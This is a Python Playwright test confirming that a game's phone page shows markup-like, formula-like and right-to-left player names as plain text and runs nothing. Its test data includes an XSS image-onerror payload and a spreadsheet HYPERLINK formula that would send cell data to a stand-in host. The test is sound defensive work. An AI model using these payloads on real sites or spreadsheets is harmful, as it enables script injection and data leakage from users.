"""Players named like markup, scripts or formulas: the phone page shows each name
as the text it is, runs nothing, and keeps right-to-left names whole."""

from __future__ import annotations

import json
import urllib.request
from typing import Any

from playwright.sync_api import expect

NAMES = ['<img src=x onerror="window.pwned=1">', "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
         "\u05d3\u05e0\u05d4\u200f"]


def _create(base: str) -> dict[str, Any]:
    request = urllib.request.Request(
        f"{base}/api/v1/games", method="POST",
        data=json.dumps({"variant": "gatti-3", "players": NAMES}).encode(),
        headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request) as response:
        created: dict[str, Any] = json.loads(response.read())
    return created


def test_names_that_look_like_markup_are_shown_as_text(phones: Any) -> None:
    phone = phones()
    page = phone.page
    created = _create(phone.base)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(created["links"]["read"])
    for name in NAMES:
        expect(page.get_by_text(name, exact=False).first).to_be_visible()
    assert page.evaluate("window.pwned") is None
    assert page.locator("img[src='x']").count() == 0
    assert dialogs == []
